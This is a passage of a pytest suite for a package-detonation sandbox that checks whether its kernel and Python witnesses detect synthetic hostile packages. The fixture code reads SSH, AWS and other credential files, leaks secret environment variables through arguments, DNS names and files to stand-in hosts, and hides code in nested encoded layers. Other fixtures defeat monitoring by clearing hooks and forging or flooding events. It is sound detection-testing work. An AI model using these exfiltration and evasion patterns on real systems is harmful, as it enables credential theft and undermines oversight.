"""What a package does, and which witness says so: a matrix of acts, the places that code runs in,
the means it has.

One run for each place; in it every means does every act on targets of its own, so that the report
tells them apart.
"""

import base64
import hashlib
import re
import shutil
import subprocess
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import PROGRAM, Snakehook, Triage, make_state, open_folder, variables
from hostile import in_one_jail
from standins import Content, Index, wheel

from jail.watch.events import MAX_EVENTS
from jail.watch.python_witness import MAX_SAYINGS

Report = dict[str, Any]


MEANS = ("python", "sh", "isolated", "ctypes", "binary")
PLACES = {
    "setup.py": "install",
    "backend": "install",
    "pth": "start",
    "import": "import",
    "script": "execute",
}
# By means: the bait file that it reads and the bait variable that it passes on.
BAIT = {
    "python": (".ssh/id_rsa", "AWS_SECRET_ACCESS_KEY"),
    "sh": (".aws/credentials", "GITHUB_TOKEN"),
    "isolated": (".pypirc", "TWINE_PASSWORD"),
    "ctypes": (".git-credentials", "NPM_TOKEN"),
    "binary": (".docker/config.json", "OPENAI_API_KEY"),
}
CHANNELS = ("argument", "name", "output", "file")

# Done by the code at the place itself; {words} are address, port, name, mark, bait, value, channel.
PYTHON = """
mark, value = {mark!r}, os.environ[{variable!r}]
try: socket.create_connection(({address!r}, {port}), 2)  # connect python
except OSError: pass
try: socket.getaddrinfo({name!r}, 80)  # name python
except OSError: pass
subprocess.run(["false", mark, "--flag"])  # command python
open(HOME + "/.bash_" + mark, "w").write("kept")  # keep python
open(HOME + "/.drop-" + mark, "w").close()
os.remove(HOME + "/.drop-" + mark)  # delete python
open(HOME + "/" + {bait!r}).read()  # bait python
if {channel!r} == "argument": subprocess.run(["true", value])
if {channel!r} == "name":
    try: socket.getaddrinfo(value[:20] + "." + value[20:] + ".example.com", 80)
    except OSError: pass
if {channel!r} == "output": print(value)
if {channel!r} == "file": open("/tmp/" + mark, "w").write(value)
"""
SH = r"""
bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null
getent hosts "$3"
/bin/false "$4" --flag
echo kept >"$HOME/.bash_$4"
: >"$HOME/.drop-$4"
rm "$HOME/.drop-$4"
cat "$HOME/$5" >/dev/null
case $7 in
argument) /bin/true "$6" ;;
name) getent hosts "$(printf %.20s "$6").$(printf %s "$6" | cut -c21-).example.com" ;;
output) echo "$6" ;;
file) echo "$6" >"/tmp/$4" ;;
esac
exit 0
"""
ISOLATED = """
import os, socket, subprocess, sys
address, port, name, mark, bait, value, channel = sys.stdin.read().split("\\n")
HOME = "/home/dev"
socket.socket().connect_ex((address, int(port)))
try: socket.getaddrinfo(name, 80)
except OSError: pass
subprocess.run(["/bin/false", mark, "--flag"])
open(HOME + "/.bash_" + mark, "w").write("kept")
open(HOME + "/.drop-" + mark, "w").close()
os.remove(HOME + "/.drop-" + mark)
open(HOME + "/" + bait).read()
if channel == "argument": subprocess.run(["/bin/true", value])
if channel == "name":
    try: socket.getaddrinfo(value[:20] + "." + value[20:] + ".example.com", 80)
    except OSError: pass
if channel == "output": print(value)
if channel == "file": open("/tmp/" + mark, "w").write(value)
"""
CTYPES = """
libc, value = ctypes.CDLL(None), os.environ[{variable!r}].encode()
mark, channel, home = {mark!r}.encode(), {channel!r}, HOME.encode()
peer = struct.pack("=H", 2) + struct.pack("!H", {port}) + socket.inet_aton({address!r}) + bytes(8)
libc.connect(libc.socket(2, 1, 0), peer, 16)
libc.gethostbyname({name!r}.encode())
libc.system(b"/bin/false " + mark + b" --flag")
libc.close(libc.creat(home + b"/.bash_" + mark, 0o644))
libc.close(libc.creat(home + b"/.drop-" + mark, 0o644))
libc.unlink(home + b"/.drop-" + mark)
descriptor = libc.open(home + b"/" + {bait!r}.encode(), 0)
libc.read(descriptor, ctypes.create_string_buffer(64), 64)
if channel == "argument": libc.system(b"/bin/true " + value)
if channel == "name": libc.gethostbyname(value[:20] + b"." + value[20:] + b".example.com")
if channel == "output": libc.write(1, value, len(value))
if channel == "file":
    descriptor = libc.creat(b"/tmp/" + mark, 0o644)
    libc.write(descriptor, value, len(value))
"""
C_SOURCE = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char line[8][256], path[512];

static void run(const char *program, const char *first, const char *second) {
    if (fork() == 0) {
        execl(program, program, first, second, NULL);
        _exit(127);
    }
    wait(NULL);
}

static int make(const char *form, const char *name) {
    snprintf(path, sizeof path, form, name);
    return open(path, O_CREAT | O_WRONLY, 0644);
}

int main(void) {
    for (int n = 0; n < 7; n++) {
        if (!fgets(line[n], sizeof line[n], stdin)) return 2;
        line[n][strcspn(line[n], "\n")] = 0;
    }
    char *mark = line[3], *value = line[5], *channel = line[6], buffer[600];
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(line[1]))};
    inet_aton(line[0], &peer.sin_addr);
    connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&peer, sizeof peer);
    gethostbyname(line[2]);
    run("/bin/false", mark, "--flag");
    close(make("/home/dev/.bash_%s", mark));
    close(make("/home/dev/.drop-%s", mark));
    unlink(path);
    snprintf(path, sizeof path, "/home/dev/%s", line[4]);
    if (read(open(path, O_RDONLY), buffer, 64) < 0) return 3;
    if (!strcmp(channel, "argument")) run("/bin/true", value, NULL);
    if (!strcmp(channel, "name")) {
        snprintf(buffer, sizeof buffer, "%.20s.%s.example.com", value, value + 20);
        gethostbyname(buffer);
    }
    if (!strcmp(channel, "output")) write(1, value, strlen(value));
    if (!strcmp(channel, "file")) write(make("/tmp/%s", mark), value, strlen(value));
    return 0;
}
"""


@dataclass(frozen=True)
class Aim:
    """What one means at one place does its acts on: nobody else has these."""

    place: str
    means: str

    @property
    def mark(self) -> str:
        return f"{self.means}-{self.place.replace('.', '')}"

    @property
    def address(self) -> str:
        return f"203.0.113.{10 + MEANS.index(self.means)}"  # TEST-NET-3: nobody's

    @property
    def port(self) -> int:
        return 8000 + [*PLACES].index(self.place)

    @property
    def name(self) -> str:
        return f"{self.mark}.example.org"

    @property
    def channel(self) -> str:
        if PLACES[self.place] == "install":  # pip keeps a build's output to itself
            return ("argument", "name", "file")[(MEANS.index(self.means) + self.port) % 3]
        return CHANNELS[(MEANS.index(self.means) + self.port) % 4]

    @property
    def fields(self) -> Mapping[str, Any]:
        bait, variable = BAIT[self.means]
        about = {
            name: getattr(self, name) for name in ("mark", "address", "port", "name", "channel")
        }
        return {**about, "bait": bait, "variable": variable}

    @property
    def call(self) -> str:
        """Source for the words of a means that is a program, secrets last so that no command line
        has them."""
        words = "[{address!r}, '{port}', {name!r}, {mark!r}, {bait!r}, "
        words += "os.environ[{variable!r}], {channel!r}]"
        return words.format(**self.fields)


def acts(place: str, binary: str | None) -> str:
    """Source that does everything by every means; `binary` is an expression for the path of the
    compiled one."""
    aims = {means: Aim(place, means) for means in MEANS}
    source = "import ctypes, os, shutil, socket, struct, subprocess, sys\nHOME = '/home/dev'\n"
    source += PYTHON.format(**aims["python"].fields)
    # The value goes by the environment: as an argument of sh, this Python would have passed it on
    # already.
    sh = SH.replace("$6", f"${BAIT['sh'][1]}")
    words = aims["sh"].call.replace(f"os.environ[{BAIT['sh'][1]!r}]", "''")
    source += f"subprocess.run(['sh', '-c', {sh!r}, 'sh', *{words}])  # start sh\n"
    source += (
        f"subprocess.run([sys.executable, '-I', '-S', '-c', {ISOLATED!r}], env={{}}, text=True,"
        f" input='\\n'.join({aims['isolated'].call}))  # start isolated\n"
    )
    source += CTYPES.format(**aims["ctypes"].fields)
    if binary:
        source += (
            f"shutil.copy({binary}, '/tmp/act-{place}'); os.chmod('/tmp/act-{place}', 0o755)\n"
        )
        words = f"'\\n'.join({aims['binary'].call})"
        source += (
            f"subprocess.run(['/tmp/act-{place}'], input={words}, text=True)  # start binary\n"
        )
    return source


def line_of(source: str, comment: str) -> int:
    return next(n for n, line in enumerate(source.splitlines(), 1) if line.endswith(f"# {comment}"))


@pytest.fixture(scope="module")
def compiled(tmp_path_factory: pytest.TempPathFactory) -> bytes | None:
    """The compiled means; None where there is no compiler."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    if not compiler:
        return None
    folder = tmp_path_factory.mktemp("compiled")
    (folder / "act.c").write_text(C_SOURCE)
    subprocess.run([compiler, "-w", "-o", str(folder / "act"), str(folder / "act.c")], check=True)
    return (folder / "act").read_bytes()


SETUP = "from setuptools import setup\nsetup(name='{name}', version='1.0', py_modules=['calm'])\n"


@dataclass
class Seen:
    """The report of a place's run, and the source that did it all."""

    place: str
    phase: str
    trigger: str | None
    source: str
    file: str
    report: Report

    def at(self, comment: str) -> str:
        """The place of the line with this comment."""
        return f"{self.file}:{line_of(self.source, comment)}"

    @property
    def jail(self) -> dict[str, str | None]:
        """The fields of what is told of the jail that was started for the place itself.

        In a later jail a file is there already, and the numbers of processes begin anew.
        """
        return {"phase": self.phase, "trigger": self.trigger}


@pytest.fixture(scope="module", params=PLACES)
def seen(
    request: pytest.FixtureRequest,
    jail: None,
    jail_python_cache: Path,
    compiled: bytes | None,
) -> Iterator[Seen]:
    with open_folder("witnesses") as home:
        yield act(request.param, make_state(home, jail_python_cache), compiled)


def act(place: str, state: Path, compiled: bytes | None) -> Seen:
    """Run a package that does everything at this place."""
    name = f"acts-{place.replace('.', '')}"
    beside = "os.path.join(os.path.dirname(os.path.abspath(__file__)), 'act.bin')"
    data: dict[str, Content] = {"act.bin": compiled} if compiled else {}
    source = acts(place, beside if compiled else None)
    site = f"/srv/site/{name}-1.0"
    file, mode = "", "import"
    trigger = {"import": "actor", "script": name}.get(place)
    with Index() as index:
        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
        match place:
            case "setup.py":
                file = "setup.py"
                files = {"setup.py": source + SETUP.format(name=name), "calm.py": "", **data}
                index.add_sdist(name, "1.0", files)
            case "backend":
                file = "backend.py"
                filename, built = wheel(name, "1.0", {"calm.py": ""})
                backend = (
                    source
                    + f"def build_wheel(folder, *_):\n    shutil.copy({filename!r}, folder)\n"
                )
                backend += f"    return {filename!r}\n"
                project = "[build-system]\nrequires = []\n"
                project += "build-backend = 'backend'\nbackend-path = ['.']\n"
                files = {"pyproject.toml": project, "backend.py": backend, filename: built, **data}
                index.add_sdist(name, "1.0", files)
            case "pth":
                index.add_wheel(
                    name, "1.0", {"actor.pth": "import actor\n", "actor.py": source, **data}
                )
                mode = "detonate"
            case "import":
                index.add_wheel(name, "1.0", {"actor.py": source, **data})
            case "script":
                source = "def main():\n" + "".join(f"    {line}\n" for line in source.splitlines())
                index.add_wheel(
                    name, "1.0", {"actor.py": source, **data}, console_scripts={name: "actor:main"}
                )
                mode = "execute"
        program = Snakehook(PROGRAM, variables(state, index))
        code, report, complaints = program.triage(name, "--mode", mode)
    assert code == 1, (report["reason"], complaints)
    places = [str(finding["at"]).rpartition(":")[0] for finding in report["findings"]]
    if place == "backend":  # pip unpacks it to a folder that it makes up
        file = next(path for path in places if path.endswith("/backend.py"))
    elif place != "setup.py":
        installed = re.compile(f"{site}/lib/python3[.][0-9]+/site-packages/actor[.]py")
        file = next(path for path in places if installed.fullmatch(path))
    assert report["outcome"] == "ok", report["reason"]
    return Seen(place, PLACES[place], trigger, source, file, report)


@pytest.fixture(params=MEANS)
def aim(request: pytest.FixtureRequest, seen: Seen, compiled: bytes | None) -> Aim:
    if request.param == "binary" and not compiled:
        pytest.skip("there is no C compiler here to make the binary with")
    return Aim(seen.place, request.param)


BOTH, KERNEL = ["kernel", "python"], ["kernel"]
# Who must see a connection, a name and a command done by each means, and whether their silence in
# Python is a finding: only of a Python is an account expected. sh and the compiled binary have
# none, and their being started has one.
WITNESSES = {
    "python": (BOTH, False),
    "sh": (KERNEL, False),
    "isolated": (KERNEL, True),
    "ctypes": (KERNEL, True),
    "binary": (KERNEL, False),
}
DROPPED = "/tmp/act-"  # noqa: S108 - where the jail's binary is put
STARTED_AS = {
    "python": "python",
    "sh": "sh",
    "isolated": "python",
    "ctypes": "sh",
    "binary": "act-",
}


def findings(report: Report, rule: str, *words: str, **fields: Any) -> list[dict[str, Any]]:
    """The findings of a rule whose title has all of `words`, with these fields."""
    return [
        finding
        for finding in report["findings"]
        if finding["rule"] == rule
        and all(word in finding["title"] for word in words)
        and all(finding[key] == value for key, value in fields.items())
    ]


def ran(report: Report, words: str, phase: str) -> dict[str, Any]:
    """The only finding of a command that was run: where else it was looked for in vain is none."""
    return the(findings(report, "process.spawn", f"runs {words}", phase=phase))


def the(items: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    """The only one of `items` with these fields."""
    found = [item for item in items if all(item[key] == value for key, value in fields.items())]
    assert len(found) == 1, (fields, found or items)
    return found[0]


def place(seen: Seen, aim: Aim, act: str) -> str | None:
    """Where Python says that a means did this: nowhere, unless Python it was."""
    return seen.at(f"{act} python") if aim.means == "python" else None


def test_a_connection_attempt(seen: Seen, aim: Aim) -> None:
    witness, _ = WITNESSES[aim.means]
    target = f"{aim.address}:{aim.port}"
    attempt = the(seen.report["network"], phase=seen.phase, target=target)
    assert (attempt["kind"], attempt["witness"]) == ("tcp", witness)
    assert attempt["trigger"] == seen.trigger
    assert attempt["place"] == place(seen, aim, "connect")
    (finding,) = findings(seen.report, "network.attempt", target, phase=seen.phase)
    assert (finding["severity"], finding["at"]) == ("high", place(seen, aim, "connect"))
    assert finding["process"]
    assert {"sh": "bash -c", "binary": DROPPED, "isolated": "-I -S"}.get(aim.means, "") in finding[
        "process"
    ]


def test_a_name(seen: Seen, aim: Aim) -> None:
    witness, _ = WITNESSES[aim.means]
    question = the(seen.report["network"], phase=seen.phase, target=aim.name)
    assert (question["kind"], question["witness"]) == ("dns", witness)
    assert question["place"] == place(seen, aim, "name")
    (finding,) = findings(seen.report, "network.attempt", aim.name, phase=seen.phase)
    assert finding["at"] == place(seen, aim, "name")
    assert {"sh": "getent", "binary": DROPPED, "isolated": "-I -S"}.get(aim.means, "") in finding[
        "process"
    ]


def test_a_command_and_its_arguments(seen: Seen, aim: Aim) -> None:
    found = findings(seen.report, "process.spawn", f"false {aim.mark} --flag", phase=seen.phase)
    done = [finding for finding in found if "sh -c" not in finding["title"]]
    # What no Python says is placed where a Python has started who did it.
    is_child = aim.means in ("sh", "isolated", "binary")
    started = seen.at(f"start {aim.means}") if is_child else None
    assert [finding["at"] for finding in done] == [place(seen, aim, "command") or started]
    processes = [
        process
        for process in seen.report["processes"]
        if all(process[key] == value for key, value in seen.jail.items())
    ]
    mine = [
        process
        for process in processes
        if process["argv"][-2:] == [aim.mark, "--flag"] and "false" in process["argv"][0]
    ]
    assert mine and {process["exit_code"] for process in mine} == {1}
    by_pid = {process["pid"]: process for process in processes}
    for process in mine:
        parent = by_pid[process["ppid"]]
        # A shell may become its last command instead of starting it.
        assert STARTED_AS[aim.means] in parent["argv"][0] or aim.means == "ctypes", parent
        while parent["ppid"] in by_pid:
            parent = by_pid[parent["ppid"]]
        assert parent["argv"] == ["launch.py"]  # the tree hangs together


def test_a_python_that_its_own_witness_does_not_see(seen: Seen, aim: Aim) -> None:
    _, hidden = WITNESSES[aim.means]
    acts = [f"{aim.address}:{aim.port}", aim.name]
    found = [
        finding
        for act in acts
        for finding in findings(seen.report, "witness.hidden", act, phase=seen.phase)
    ]
    assert [finding["severity"] for finding in found] == (["high"] * len(acts) if hidden else [])
    commands = findings(seen.report, "witness.hidden", "runs ", phase=seen.phase)
    # ctypes starts a shell that starts the command: what a Python hid is the shell.
    assert any(aim.mark in finding["title"] for finding in commands) == hidden, commands


def test_what_python_starts_is_placed_even_where_what_that_does_can_not_be(
    seen: Seen, compiled: bytes | None
) -> None:
    for means, words in {
        "sh": "runs sh -c",
        "isolated": "-I -S -c",
        "binary": f"runs {DROPPED}",
    }.items():
        if means != "binary" or compiled:
            found = findings(seen.report, "process.spawn", words, phase=seen.phase)
            assert seen.at(f"start {means}") in [finding["at"] for finding in found]


def test_a_file_written_where_it_lasts(seen: Seen, aim: Aim) -> None:
    path = f"/home/dev/.bash_{aim.mark}"
    assert the(seen.report["files"], path=path, **seen.jail)["change"] == "created"
    (finding,) = findings(seen.report, "persistence.write", path, **seen.jail)
    assert (finding["severity"], finding["at"]) == ("high", place(seen, aim, "keep"))


def test_a_file_written_and_deleted(seen: Seen, aim: Aim) -> None:
    path = f"/home/dev/.drop-{aim.mark}"
    assert the(seen.report["files"], path=path, phase=seen.phase)["change"] == "deleted"


def test_a_bait_file_read(seen: Seen, aim: Aim) -> None:
    path = f"/home/dev/{BAIT[aim.means][0]}"
    (finding,) = findings(seen.report, "secret.read", f"reads or touches {path}", phase=seen.phase)
    assert (finding["severity"], finding["at"]) == ("high", place(seen, aim, "bait"))


def test_a_bait_variable_passed_on(seen: Seen, aim: Aim) -> None:
    found = findings(
        seen.report, "secret.read", f"passes on {BAIT[aim.means][1]} ", phase=seen.phase
    )
    words = {"argument": "command", "name": "DNS name", "output": "stdout"}
    words["file"] = f"/tmp/{aim.mark}"  # noqa: S108 - the jail's own
    assert [finding["severity"] for finding in found] == ["high"], f"by {aim.channel}"
    assert words[aim.channel] in found[0]["title"]


def test_no_bait_is_said_to_be_read_that_was_not(seen: Seen) -> None:
    left_alone = (".bitcoin/wallet.dat", ".kube/config")
    assert not [
        finding for name in left_alone for finding in findings(seen.report, "secret.read", name)
    ]
    assert not findings(seen.report, "evidence.tamper")
    assert seen.report["coverage"]["kernel_witness"]
    assert seen.report["coverage"]["python_witness"]


def code_of(report: Report, phase: str) -> list[str]:
    return [code["text"] for code in report["code"] if code["phase"] == phase]


NESTED = r"""
import base64, marshal, zlib
inner = "inner_secret = 'the innermost layer'"
dumped = marshal.dumps(compile(inner, "q", "exec"))
middle = f"import marshal\nexec(marshal.loads({dumped!r}))  # the middle layer"
outer = f"import zlib\nexec(zlib.decompress({zlib.compress(middle.encode())!r}))  # the outer layer"
packed = base64.b64encode(outer.encode())
exec(base64.b64decode(packed))  # unpack
"""


def test_nested_decoded_source_is_whole_and_placed(triage: Triage, index: Index) -> None:
    index.add_wheel("nested", "1.0", {"nested.py": NESTED})
    _, report, _ = triage("nested", "--mode", "import")
    assert report["outcome"] == "ok", report["reason"]
    texts = code_of(report, "import")
    outer = next(text for text in texts if "# the outer layer" in text)
    assert outer.startswith("import zlib\nexec(zlib.decompress(b'")
    assert any(
        text.endswith("# the middle layer") and text.startswith("import marshal") for text in texts
    )
    assert any(
        "the innermost layer" in text and "STORE_NAME" in text for text in texts
    )  # no source: its instructions
    line = line_of(NESTED, "unpack")
    assert the(report["code"], text=outer)["at"].endswith(f"/nested.py:{line}")
    found = findings(report, "code.dynamic", "decoded", severity="high", phase="import")
    assert any(finding["at"].endswith(f"/nested.py:{line}") for finding in found)


def test_the_layers_of_nested_code_name_the_file_that_it_came_from(
    triage: Triage, index: Index
) -> None:
    index.add_wheel("nested", "1.0", {"nested.py": NESTED})
    _, report, _ = triage("nested", "--mode", "import")
    assert report["outcome"] == "ok", report["reason"]
    for layer in ("# the outer layer", "# the middle layer", "STORE_NAME"):
        (piece,) = (
            code
            for code in report["code"]
            if layer in code["text"] and "b64decode" not in code["text"]
        )
        assert f"nested.py:{line_of(NESTED, 'unpack')}" in piece["at"], layer


@pytest.mark.parametrize(("length", "kept"), [(64 << 10, 64 << 10), (100_000, 64 << 10)])
def test_decoded_source_is_kept_up_to_64_kib(
    triage: Triage, index: Index, length: int, kept: int
) -> None:
    source = ("# ä long source\n" + "x = 1\n" * 20_000).encode()[:length]
    index.add_wheel(
        "long",
        "1.0",
        {"long.py": f"import zlib\nexec(zlib.decompress({zlib.compress(source)!r}))\n"},
    )
    _, report, _ = triage("long", "--mode", "import")
    (piece,) = (code for code in report["code"] if "long source" in code["text"])
    assert piece["bytes"] == length
    assert piece["text"].encode() == source[:kept]
    assert piece["sha256"] == hashlib.sha256(source[:kept]).hexdigest()


def test_what_the_standard_library_generates_is_not_in_there(triage: Triage, index: Index) -> None:
    source = """
import collections, dataclasses, enum, functools, inspect, typing
Point = collections.namedtuple("Point", "x y")
class Typed(typing.NamedTuple):
    a: int = 1
@dataclasses.dataclass(order=True, frozen=True)
class Record:
    a: int
    b: list = dataclasses.field(default_factory=list)
enum.Enum("Colour", "RED GREEN")
typing.get_type_hints(Record)
inspect.signature(Record)
"""
    index.add_wheel("generating", "1.0", {"generating.py": source})
    code, report, _ = triage("generating", "--mode", "import")
    assert (code, report["code"], report["findings"]) == (0, [], [])


PTH = (
    "import subprocess; subprocess.run(['true', 'from-pth']); "
    "exec(__import__('base64').b64decode('{}'))\n"
)


def test_code_that_a_pth_file_makes_is_not_called_decoded_when_it_is_not(
    triage: Triage, index: Index
) -> None:
    index.add_wheel("plainly", "1.0", {"zzz.pth": "import os; exec('x = 1')\n", "plainly.py": ""})
    _, report, _ = triage("plainly", "--mode", "detonate")
    assert [finding["severity"] for finding in findings(report, "code.dynamic")] == ["info"] * len(
        report["code"]
    )
    assert report["code"]


def test_a_line_of_a_pth_file_is_the_place_of_what_it_does(triage: Triage, index: Index) -> None:
    packed = base64.b64encode(
        b"import subprocess\nsubprocess.run(['true', 'from-its-code'])"
    ).decode()
    index.add_wheel(
        "starter", "1.0", {"zzz.pth": "# a comment\n" + PTH.format(packed), "starter.py": ""}
    )
    _, report, _ = triage("starter", "--mode", "detonate")
    assert report["outcome"] == "ok", report["reason"]
    place = "/zzz.pth:"
    assert place in ran(report, "true from-pth", "start")["at"]
    (piece,) = (
        code
        for code in report["code"]
        if code["phase"] == "start" and "from-its-code" in code["text"]
    )
    assert place in piece["at"]
    assert place in ran(report, "true from-its-code", "start")["at"]
    (finding,) = findings(report, "pth.code", "import subprocess", phase="install")
    assert finding["severity"] in ("medium", "high")
    assert finding["at"].endswith("/zzz.pth")


SETUP_COMMAND = """
from setuptools import setup
from setuptools.command.build_py import build_py
import subprocess
class Build(build_py):
    def run(self):
        subprocess.run(["true", "from-a-command"])  # command
        super().run()
setup(name="commanding", version="1.0", py_modules=["calm"], cmdclass={"build_py": Build})
"""


def test_a_command_class_of_setup_py_is_placed_in_setup_py(triage: Triage, index: Index) -> None:
    index.add_sdist("commanding", "1.0", {"setup.py": SETUP_COMMAND, "calm.py": ""})
    _, report, _ = triage("commanding")
    assert report["outcome"] == "ok", report["reason"]
    found = findings(report, "process.spawn", "runs true from-a-command")
    assert f"setup.py:{line_of(SETUP_COMMAND, 'command')}" in [finding["at"] for finding in found]


TRY = "import ctypes, json, os, socket, subprocess, sys\n"
TRY += "def reach(number):\n    socket.socket().connect_ex((f'203.0.113.{number}', 443))\n"


def detonate(triage: Triage, index: Index, source: str, **settings: object) -> Report:
    """The report of running a package with this source, which has `reach(n)`."""
    index.add_wheel("fighter", "1.0", {"fighter.py": TRY + source})
    return triage("fighter", *in_one_jail("fighter"), **settings)[1]


ALONE = {"phase": "execute", "trigger": "python -m fighter"}


def reached(report: Report) -> dict[str, list[str]]:
    """The witnesses of each address that the module reached for, by its last number."""
    return {
        attempt["target"][10:].removesuffix(":443"): attempt["witness"]
        for attempt in report["network"]
        if all(attempt[key] == value for key, value in ALONE.items())
    }


def test_a_hook_that_is_switched_off_is_missed(triage: Triage, index: Index) -> None:
    source = """
reach(1)
import gc
for thing in gc.get_objects():
    if getattr(thing, "__module__", 1) is None or "FIFO" in getattr(thing, "__globals__", {}):
        try: thing.__globals__["WATCHED"].clear()
        except Exception: pass
reach(2)
subprocess.run(["true", "unseen"])
"""
    report = detonate(triage, index, source)
    assert reached(report) == {"1": BOTH, "2": KERNEL}
    (finding,) = findings(report, "witness.hidden", "203.0.113.2:443", **ALONE)
    assert (finding["severity"], finding["phase"]) == ("high", "execute")
    assert findings(report, "process.spawn", "runs true unseen", **ALONE)
    assert findings(report, "witness.hidden", "runs true unseen", **ALONE)


FORGE = """
fifo = os.open("/run/initctl", os.O_WRONLY)
def forge(event, **fields):
    os.write(fifo, json.dumps({"event": event, "pid": os.getpid()} | fields).encode() + b"\\n")
"""


def test_a_flooded_fifo_loses_nothing_that_came_before_and_is_flagged(
    triage: Triage, index: Index
) -> None:
    source = (
        FORGE
        + """
reach(1)
for number in range(20000):
    forge("open", what=f"/nothing/{number}", mode="r", at="nowhere.py:1")
reach(2)
subprocess.run(["true", "after the flood"])  # after
"""
    )
    report = detonate(triage, index, source)
    assert report["outcome"] == "ok", report["reason"]
    assert reached(report) == {"1": BOTH, "2": BOTH}  # the rare kinds survive the common one
    found = findings(report, "process.spawn", "runs true after the flood", **ALONE)
    assert found[-1]["at"].endswith(f"/fighter.py:{line_of(TRY + source, 'after')}")
    (finding,) = findings(report, "limit.hit", "open", **ALONE)
    assert (finding["severity"], finding["phase"]) == ("medium", "execute")
    assert any("open" in note for note in report["coverage"]["notes"])


def test_a_flood_of_one_kind_hides_none_of_the_other_witness(triage: Triage, index: Index) -> None:
    source = (
        FORGE
        + f"""
for number in range({MAX_SAYINGS + 50}):
    forge("address", what=["203.0.113.9", number], at="nowhere.py:1")
reach(1)
"""
    )
    report = detonate(triage, index, source)
    assert "kernel" in reached(report)["1"]
    assert findings(report, "network.attempt", "203.0.113.1:443", severity="high", **ALONE)
    assert findings(report, "limit.hit", "address", **ALONE)


def test_forged_and_malformed_lines_are_evidence_themselves(triage: Triage, index: Index) -> None:
    source = (
        FORGE
        + r"""
reach(1)
forge("spawn", pid=99999, what=["rm", "-rf", "/"], at="innocent.py:1")
os.write(fifo, b'not json\n[]\n{"event": "end", "pid": 1}\n')
os.write(fifo, b'{"event": "code", "pid": 1, "id": 1, "text": "zz"}\n')
# No number of a process.
os.write(fifo, b'{"event": "start", "pid": %d}\n{"event": "start", "pid": -1}\n' % 10**30)
os.write(fifo, b'{"event": "open", "pid": 1, "what": "%s", "at": ""}\n' % (b"x" * 9000))
"""
    )
    report = detonate(triage, index, source)
    (finding,) = findings(report, "evidence.tamper", **ALONE)
    assert "7 malformed lines" in finding["title"]
    assert finding["severity"] in ("medium", "high")
    assert "1 processes" in finding["title"]
    assert reached(report) == {"1": BOTH}
    assert not findings(report, "process.spawn", "rm -rf")  # what only Python tells did not happen


def test_a_forged_twin_does_not_take_the_kernels_word_away(triage: Triage, index: Index) -> None:
    source = (
        FORGE
        + """
import struct
library = "/usr/lib/python3.11/innocent.py:1"
forge("address", call="socket.connect", what=["203.0.113.1", 443], at=library)
peer = struct.pack("=H", 2) + struct.pack("!H", 443) + socket.inet_aton("203.0.113.1") + bytes(8)
libc = ctypes.CDLL(None)
libc.connect(libc.socket(2, 1, 0), peer, 16)
"""
    )
    report = detonate(triage, index, source)
    assert "kernel" in reached(report)["1"]
    assert findings(report, "network.attempt", "203.0.113.1:443", severity="high", **ALONE)


@pytest.mark.parametrize(
    ("end", "exit_code", "signal"),
    [
        ("os._exit(3)", 3, None),
        ("ctypes.string_at(0)", None, "SIGSEGV"),
        ("os.kill(os.getpid(), 9)", None, "SIGKILL"),
    ],
)
def test_an_end_without_farewell_loses_nothing(
    triage: Triage, index: Index, end: str, exit_code: int | None, signal: str | None
) -> None:
    report = detonate(
        triage, index, f"print('said', end='')\nreach(1)\nsubprocess.run(['true', 'last'])\n{end}\n"
    )
    phase = the(report["phases"], name="execute", trigger=ALONE["trigger"])
    assert (phase["outcome"], phase["exit_code"], phase["signal"]) == ("failed", exit_code, signal)
    assert phase["stdout"]["text"] in ("said", "")  # os._exit does not flush
    assert reached(report) == {"1": BOTH}
    assert findings(report, "process.spawn", "runs true last", **ALONE)


def test_a_timeout_keeps_what_was_seen_and_says_so(triage: Triage, index: Index) -> None:
    report = detonate(triage, index, "reach(1)\nimport signal\nsignal.pause()\n", RUN_TIMEOUT_SEC=4)
    assert report["outcome"] == "timeout"
    assert reached(report) == {"1": BOTH}
    (finding,) = findings(report, "limit.hit", "stopped after 4 s", **ALONE)
    assert (finding["severity"], finding["phase"]) == ("medium", "execute")


def test_five_hundred_commands_push_out_no_graver_finding(triage: Triage, index: Index) -> None:
    source = """
subprocess.run(["sh", "-c", "n=0; while [ $n -lt 520 ]; do /bin/true $n; n=$((n+1)); done"])
reach(1)
open("/home/dev/.ssh/id_rsa").read()
"""
    report = detonate(triage, index, source)
    assert report["outcome"] == "ok", report["reason"]
    assert findings(report, "network.attempt", "203.0.113.1:443", severity="high", **ALONE)
    assert findings(report, "secret.read", ".ssh/id_rsa", severity="high", **ALONE)
    assert reached(report) == {"1": BOTH}


def test_what_follows_a_flood_of_processes_is_still_seen(triage: Triage, index: Index) -> None:
    source = f"""
subprocess.run(["sh", "-c", "n=0; while [ $n -lt {MAX_EVENTS + 50} ]; do (:); n=$((n+1)); done"])
subprocess.run([sys.executable, "-I", "-S", "-c",
    "import socket; socket.socket().connect_ex(('203.0.113.1', 443))"], env={{}})
"""
    report = detonate(triage, index, source)
    assert findings(report, "limit.hit", "process", **ALONE)
    assert report["outcome"] == "ok", report["reason"]
    assert reached(report) == {"1": KERNEL}
    assert findings(report, "witness.hidden", "203.0.113.1:443", **ALONE)


def test_a_thousand_names_push_out_no_address(triage: Triage, index: Index) -> None:
    source = """
for number in range(1000):
    try: socket.getaddrinfo(f"n{number}.example.com", 80)
    except OSError: pass
reach(1)
"""
    report = detonate(triage, index, source)
    assert "1" in reached(report)
    assert findings(report, "network.attempt", "203.0.113.1:443", severity="high", **ALONE)
    assert report["coverage"]["dropped_events"] > 0


def test_the_witnesses_are_merged_in_time_whatever_they_say(triage: Triage, index: Index) -> None:
    source = (
        FORGE
        + """
long = ["x" * 60] * 55
for number in range(2000):
    forge("address", what=[*long, number], at="nowhere.py:1")
    forge("spawn", what=[*long, number], at="nowhere.py:1")
tcp, udp = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
for port in range(1, 1990):
    tcp.connect_ex(("203.0.113.2", port))
